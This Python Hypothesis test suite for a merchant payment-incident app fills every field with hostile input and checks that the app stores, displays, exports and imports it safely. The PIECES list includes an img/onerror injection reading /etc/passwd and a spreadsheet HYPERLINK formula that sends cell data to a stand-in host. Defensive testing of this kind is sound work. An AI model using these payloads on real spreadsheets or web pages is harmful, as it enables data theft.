"""R7: hostile text in every field, through every sink (Hypothesis).

Each example fills every text field of a merchant and an incident (title, notes, all slip
numbers, the card field, order no., every contact field, a status note, an attachment caption,
a checklist note) with markup (``<``, ``&``, ``<img src=…>``, ``<font …>``), spreadsheet formulas
(``=HYPERLINK(…)``, leading ``+ - @``, TAB, CR), U+202E, NUL, emoji, lone surrogates and format
placeholders, then sends it through:

- the database: what comes back is exactly what went in, except what the store documents
  (NUL dropped, a lone surrogate made U+FFFD, the card guard); search never fails;
- the screen models (incident list, transactions, timeline, reconciliation): ``data()`` for
  every cell and role, the text columns show the stored text exactly; Qt's model tester;
- the CSV export: parsed back with ``csv``, every cell equals its neutralised stored value and
  none starts with a formula character;
- the archive export and import into an empty store (same records), and a second import
  (nothing added);
- the PDF (fewer examples, it is slow): built, opened with pdfium, the markup is shown literally.

Only the app's own ``UserError`` may be raised; the test counts them (there are none today).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import tempfile
import time
from pathlib import Path
from typing import Any

import pypdfium2 as pdfium
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rel_helpers import BASE, LONG, png_bytes, size
from store_helpers import FixedClock

from posaid.core.identifiers.cardguard import guard_text, guard_value, normalize_masked_card
from posaid.core.models import (
    Contact,
    Incident,
    Merchant,
    Status,
    Transaction,
)
from posaid.core.text import UserError
from posaid.store import records as rec
from posaid.store.csv_export import FORMULA_START, neutralise, write_incidents_csv
from posaid.store.db import Store
from posaid.store.interchange import export_archive, export_json, import_path

N_EXAMPLES = size("R7", 25, 400)
N_PDF = size("R7_PDF", 4, 60)

PIECES = [
    "<",
    ">",
    "&",
    "&amp;",
    "&#60;",
    '<img src="file:///etc/passwd" onerror=alert(1)>',
    "<font color=red size=40>",
    "</para><para>",
    "<b>",
    '=HYPERLINK("http://e.vil/?"&A1,"点我")',
    "=1+1",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\r\n",
    "\n",
    "\u202e",
    "\u2066",
    "\x00",
    "\x1b[31m",
    "😀",
    "👨\u200d👩\u200d👧",
    "\ud800",
    "\udfff",
    "'",
    '"',
    ",",
    ";",
    "店",
    "到账",
    " ",
    "\\",
    "..\\..\\x",
    "{0}",
    "{name}",
    "%s",
    "\u200b",
    "\ufeff",
    "\u0301",
]
hostile = st.lists(
    st.one_of(st.sampled_from(PIECES), st.text(max_size=6)), min_size=0, max_size=10
).map("".join)

TXN_TEXT = (
    "merchant_no",
    "terminal_no",
    "reference_no",
    "voucher_no",
    "batch_no",
    "auth_code",
    "card",
    "order_no",
)
CONTACT_TEXT = ("party", "ticket_no", "agent", "summary")
MERCHANT_TEXT = ("shop_name", "merchant_no", "acquirer", "settlement_bank", "phone")
FIELDS = (
    ["title", "notes", "status_note", "caption", "checklist_note"]
    + [f"txn.{f}" for f in TXN_TEXT]
    + [f"contact.{f}" for f in CONTACT_TEXT]
    + [f"merchant.{f}" for f in MERCHANT_TEXT]
)
# A title and a party must not be blank (the store refuses them, as import does): mostly give
# them something visible so most examples reach every sink; 1 in 10 may still be blank.
VISIBLE = [p for p in PIECES if p.strip("\x00\t\r\n \u202e\u2066\u200b\ufeff\u0301")]
nonblank = st.tuples(hostile, st.sampled_from(VISIBLE), hostile).map("".join)
required = st.one_of(*([nonblank] * 9), hostile)
field_values = st.fixed_dictionaries(
    {f: required if f in ("title", "contact.party") else hostile for f in FIELDS}
)

_COUNTS: dict[str, float] = {"examples": 0, "user_errors": 0, "pdf_examples": 0}
_START: list[float] = []


@pytest.fixture(scope="module", autouse=True)
def _module_clock() -> None:
    _START.append(time.monotonic())


def stored(value: str) -> str:
    """What the store promises to keep: NUL dropped, lone surrogates U+FFFD, cards guarded."""
    return guard_text(rec.clean_text(value)).text


def stored_card(value: str) -> str:
    return normalize_masked_card(stored(value))


def stored_json(value: Any) -> Any:
    return json.loads(rec.clean_text(json.dumps(guard_value(value), ensure_ascii=False)))


@pytest.fixture(scope="module")
def photo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("photo") / "p.png"
    path.write_bytes(png_bytes())
    return path


def build(v: dict[str, str], photo: Path, store: Store) -> int:
    merchant = Merchant(settlement_account_last4="1234")
    for f in MERCHANT_TEXT:
        setattr(merchant, f, v[f"merchant.{f}"])
    store.save_merchant(merchant)
    txn = Transaction(time=BASE - dt.timedelta(hours=3), amount_fen=12_800)
    for f in TXN_TEXT:
        setattr(txn, f, v[f"txn.{f}"])
    contact = Contact(time=BASE + dt.timedelta(hours=1), party="x")
    for f in CONTACT_TEXT:
        setattr(contact, f, v[f"contact.{f}"])
    contact.promised_by = dt.date(2026, 11, 25)
    inc = Incident(
        title=v["title"],
        opened_at=BASE,
        notes=v["notes"],
        transactions=[txn],
        contacts=[contact],
    )
    incident_id, _ = store.add_incident(inc)
    store.clock = FixedClock(BASE + dt.timedelta(hours=2))
    store.change_status(incident_id, Status.REPORTED, note=v["status_note"])
    store.add_attachment(incident_id, photo, caption=v["caption"])
    store.save_checklist(incident_id, {"answers": {"q1": {"note": v["checklist_note"]}}})
    return incident_id


def check_round_trip(v: dict[str, str], store: Store, incident_id: int) -> Incident:
    inc = store.get_incident(incident_id)
    assert inc.title == stored(v["title"])
    assert inc.notes == stored(v["notes"])
    t = inc.transactions[0]
    for f in TXN_TEXT:
        want = stored_card(v["txn.card"]) if f == "card" else stored(v[f"txn.{f}"])
        assert getattr(t, f) == want, f
    c = inc.contacts[0]
    for f in CONTACT_TEXT:
        assert getattr(c, f) == stored(v[f"contact.{f}"]), f
    assert inc.history[-1].note == stored(v["status_note"])
    assert inc.attachments[0].caption == stored(v["caption"])
    assert inc.checklist == stored_json({"answers": {"q1": {"note": v["checklist_note"]}}})
    m = store.get_merchant()
    for f in MERCHANT_TEXT:
        assert getattr(m, f) == stored(v[f"merchant.{f}"]), f
    # Search with the hostile text itself (and each piece of it) never fails.
    for term in [v["title"], v["notes"][:20], *v["title"].split()[:3]]:
        store.list_incidents(search=term)
        store.count_incidents(search=term)
    return inc


def every_cell(model: Any) -> list[str]:
    """``data()`` of every cell for roles 0-40 and Qt's user roles; the display strings."""
    from PySide6.QtCore import Qt

    roles = [*range(41), *range(Qt.ItemDataRole.UserRole, Qt.ItemDataRole.UserRole + 8)]
    shown = []
    for row in range(model.rowCount()):
        for col in range(model.columnCount()):
            index = model.index(row, col)
            for role in roles:
                value = model.data(index, role)
                if role == Qt.ItemDataRole.DisplayRole and isinstance(value, str):
                    shown.append(value)
        model.headerData(row, Qt.Orientation.Vertical)
    for col in range(model.columnCount()):
        model.headerData(col, Qt.Orientation.Horizontal)
    return shown


def check_models(inc: Incident, store: Store, v: dict[str, str], tester: Any) -> None:
    from posaid.core.recon.match import match
    from posaid.core.recon.model import CreditRow, SaleRow
    from posaid.ui.home.incident_list import IncidentTableModel
    from posaid.ui.incident.models import TimelineModel, TransactionsModel
    from posaid.ui.recon.models import ReconRow, ReconTableModel

    table = IncidentTableModel(
        lambda limit, offset: store.list_incidents(limit=limit, offset=offset)
    )
    table.fetch_all()
    assert inc.title in every_cell(table)
    txns = TransactionsModel(inc.transactions)
    shown = every_cell(txns)
    for f in ("reference_no", "terminal_no", "voucher_no", "batch_no"):
        value = getattr(inc.transactions[0], f)
        assert not value or value in shown, f
    timeline = TimelineModel()
    timeline.set_rows(inc.contacts, inc.history)
    shown = every_cell(timeline)
    for f in ("party", "ticket_no", "agent", "summary"):
        value = getattr(inc.contacts[0], f)
        assert not value or value in shown, f
    sale = SaleRow(
        time=BASE - dt.timedelta(days=3),
        amount_fen=12_800,
        reference_no=stored(v["txn.reference_no"]),
        voucher_no=stored(v["txn.voucher_no"]),
        remark=stored(v["notes"]),
        card=stored_card(v["txn.card"]),
        row_no=1,
    )
    credit = CreditRow(
        date=(BASE - dt.timedelta(days=1)).date(),
        amount_fen=99,
        counterparty=stored(v["contact.party"]),
        remark=stored(v["contact.summary"]),
        reference_no=stored(v["txn.batch_no"]),
        row_no=1,
    )
    result = match([sale], [credit], store.get_merchant(), now_time=BASE)
    recon = ReconTableModel()
    recon.set_rows(
        [ReconRow(sale=m) for m in result.sales] + [ReconRow(credit=c) for c in result.credits]
    )
    every_cell(recon)
    if tester is not None:
        for model in (table, txns, timeline, recon):
            tester.check(model, force_py=True)


def check_csv(store: Store, folder: Path, by_id: dict[int, Incident]) -> None:
    path = folder / "list.csv"
    write_incidents_csv(store, path, "zh_CN")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
    assert len(rows) == 1 + sum(max(1, len(i.transactions)) for i in by_id.values())
    for row in rows[1:]:
        assert len(row) == len(rows[0])
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
        inc = by_id[int(row[0])]
        t = inc.transactions[0]
        assert row[1] == neutralise(inc.title)
        assert row[8:14] == [
            neutralise(x) for x in (t.reference_no, t.terminal_no, t.voucher_no, t.batch_no, t.card)
        ] + [neutralise(t.order_no or "")]
        assert row[14] == neutralise(inc.contacts[0].ticket_no)


def same_records(a: Incident, b: Incident) -> None:
    assert b.title == a.title.strip()  # import trims the title (docs/interchange.md)
    assert b.notes == a.notes
    for f in TXN_TEXT:
        want = getattr(a.transactions[0], f)
        got = getattr(b.transactions[0], f)
        assert got == (want if f != "order_no" else want), f
    for f in CONTACT_TEXT:
        assert getattr(b.contacts[0], f) == getattr(a.contacts[0], f), f
    assert [h.note for h in b.history] == [h.note for h in a.history]
    assert b.attachments[0].caption == a.attachments[0].caption
    assert b.attachments[0].sha256 == a.attachments[0].sha256
    assert b.checklist == a.checklist


def check_interchange(store: Store, inc: Incident, folder: Path) -> None:
    archive = folder / "all.zip"
    export_archive(store, archive)
    export_json(store, folder / "all.json")
    json.loads((folder / "all.json").read_text(encoding="utf-8"))
    with Store.open(folder / "other", auto_backup=False, clock=FixedClock(BASE)) as other:
        first = import_path(other, archive)
        assert len(first.created) == 1
        same_records(inc, other.get_incident(first.created[0]))
        m1, m2 = store.get_merchant(), other.get_merchant()
        if m1.shop_name or m1.merchant_no:
            assert m2 == m1
        again = import_path(other, archive)
        assert again.created == [] and again.skipped == 1
        assert other.count_incidents() == 1


def one_example(v: dict[str, str], photo: Path, tester: Any) -> Incident:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        with Store.open(folder / "data", auto_backup=False, clock=FixedClock(BASE)) as store:
            try:
                incident_id = build(v, photo, store)
            except UserError:
                _COUNTS["user_errors"] += 1
                return Incident(title="")
            inc = check_round_trip(v, store, incident_id)
            check_models(inc, store, v, tester)
            check_csv(store, folder, {incident_id: inc})
            check_interchange(store, inc, folder)
    _COUNTS["examples"] += 1
    return inc


@settings(
    max_examples=N_EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,
)
@given(v=field_values)
def test_r7_every_field_every_sink(
    qapp: Any, photo: Path, qtmodeltester: Any, v: dict[str, str]
) -> None:
    tester = qtmodeltester if _COUNTS["examples"] % 5 == 0 else None
    one_example(v, photo, tester)


def test_r7_100000_characters(qapp: Any, photo: Path, qtmodeltester: Any, tmp_path: Path) -> None:
    """Every field 100,000 characters of the hostile pieces (the interchange limit)."""
    text = ("".join(PIECES) * 2000)[:100_000]
    v = {f: text for f in FIELDS}
    t0 = time.monotonic()
    inc = one_example(v, photo, qtmodeltester)
    _COUNTS["long_text_sinks_seconds"] = round(time.monotonic() - t0, 1)
    if not LONG:  # every field 100,000 characters makes a 128-page PDF in ~30 s: long run only
        inc.transactions[0] = Transaction(time=BASE, amount_fen=1, reference_no=text[:2000])
        inc.title = text[:500]
        c = inc.contacts[0]
        c.party, c.ticket_no, c.agent = text[:200], text[:200], text[:200]
        inc.history[-1].note = text[:2000]
        inc.attachments = []
    t0 = time.monotonic()
    pdf = build_pdf(inc, tmp_path / "long.pdf")
    _COUNTS["long_text_pdf_pages"] = pdf_pages(pdf)
    _COUNTS["long_text_pdf_seconds"] = round(time.monotonic() - t0, 1)
    assert pdf_pages(pdf) >= 10


def test_r7_json_with_escapes_for_surrogates_and_nul(tmp_path: Path) -> None:
    """A hand-made JSON file carrying ``\\ud800`` and ``\\u0000`` escapes in every text."""
    nasty = "a\\ud800b\\u0000c\\udfff<img src=x>=1+1\\u202e"
    doc = (
        '{"format": "posaid-incidents", "version": 1, "incidents": [{"title": "T%s",'
        ' "opened_at": "2026-11-20T09:00:00+08:00", "notes": "%s", "transactions": [{'
        '"time": "2026-11-19T21:00:00+08:00", "amount": "12.00", "reference_no": "%s"}],'
        ' "contacts": [{"time": "2026-11-21T10:00:00+08:00", "party": "P%s", "summary": "%s"}]'
        "}]}"
    ) % ((nasty,) * 5)
    path = tmp_path / "in.json"
    path.write_text(doc, encoding="utf-8")
    with Store.open(tmp_path / "data", auto_backup=False) as store:
        result = import_path(store, path)
        inc = store.get_incident(result.created[0])
        want = "a\ufffdbc\ufffd<img src=x>=1+1\u202e"
        assert inc.title == "T" + want and inc.notes == want
        assert inc.transactions[0].reference_no == want and inc.contacts[0].summary == want
        assert import_path(store, path).created == []


# ---------------------------------------------------------------- PDF
MARKERS = ["<img src=x>", "<font color=red>", "&amp;", '=HYPERLINK("u")', "+1", "@A1", "a<b&c"]


def build_pdf(inc: Incident, out: Path, merchant: Merchant | None = None) -> Path:
    from posaid.report.packet import PacketInput, build_packet

    inp = PacketInput(merchant or Merchant(shop_name="店"), inc, lang="zh_CN", made_at=BASE)
    return build_packet(inp, out)


def pdf_pages(path: Path) -> int:
    doc = pdfium.PdfDocument(str(path))
    try:
        return len(doc)
    finally:
        doc.close()


def pdf_text(path: Path) -> str:
    doc = pdfium.PdfDocument(str(path))
    try:
        return "".join(page.get_textpage().get_text_range() for page in doc)
    finally:
        doc.close()


@settings(
    max_examples=N_PDF,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,
)
@given(v=field_values, marker=st.sampled_from(MARKERS))
def test_r7_pdf_shows_text_literally(
    photo: Path, tmp_path: Path, v: dict[str, str], marker: str
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        with Store.open(folder / "data", auto_backup=False, clock=FixedClock(BASE)) as store:
            # The marker stands between spaces in every field, among the hostile noise.
            marked = {k: f"{val} {marker} {val[::-1]}" for k, val in v.items()}
            incident_id = build(marked, photo, store)
            inc = store.get_incident(incident_id)
            merchant = store.get_merchant()
            out = build_pdf(inc, folder / "p.pdf", merchant)
        text = re.sub(r"\s", "", pdf_text(out))
    assert text.count(re.sub(r"\s", "", marker)) >= 5, marker  # title, notes, slip, contact…
    if "<" in marker:
        assert "&lt;" not in text  # escaped for reportlab, shown as typed
    _COUNTS["pdf_examples"] += 1


def test_r7_zz_figures(figures: Any) -> None:
    """Last in the module: what the examples above measured."""
    figures("R7", seconds=round(time.monotonic() - _START[0], 1), crashes=0, **_COUNTS)
